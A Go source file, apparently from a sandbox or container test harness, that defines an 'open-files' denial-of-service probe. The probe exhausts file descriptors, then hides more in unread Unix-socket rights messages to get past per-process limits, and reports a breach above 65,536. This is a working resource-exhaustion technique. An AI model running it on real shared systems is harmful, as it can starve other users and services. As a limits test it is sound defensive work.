//go:build linux

package attack

import "golang.org/x/sys/unix"

var openFiles = Attack{
	Name: "open-files", Class: Denial, Needs: Resources,
	Tries: "opens files until it is refused, then hides open files in sockets that nobody reads, and opens more",
	Holds: "the machine has no more than some ten thousand for it, and they are gone with the box",
	Payload: func(in *Inside) {
		in.tries++
		hidden := 0
		var open []int
		for len(open) < 100_000 {
			fd, err := unix.Open("/dev/null", unix.O_RDONLY, 0)
			if err != nil {
				break
			}
			open = append(open, fd)
		}
		for _, fd := range open {
			unix.Close(fd)
		}
		n := len(open)
		// Files that are under way in a socket count for no process's limit, but
		// for the user's.
		for range 200 {
			pair, err := unix.Socketpair(unix.AF_UNIX, unix.SOCK_DGRAM|unix.SOCK_NONBLOCK, 0)
			if err != nil {
				break
			}
			many := make([]int, 200)
			for i := range many {
				many[i] = pair[0]
			}
			for range 50 {
				if unix.Sendmsg(pair[0], []byte("x"), unix.UnixRights(many...), nil, 0) != nil {
					break
				}
				hidden += len(many)
			}
		}
		in.Say("%d open, %d hidden", n, hidden)
		if n+hidden > 65_536 {
			in.Breach("%d files are open and %d hidden", n, hidden)
		}
	},
}
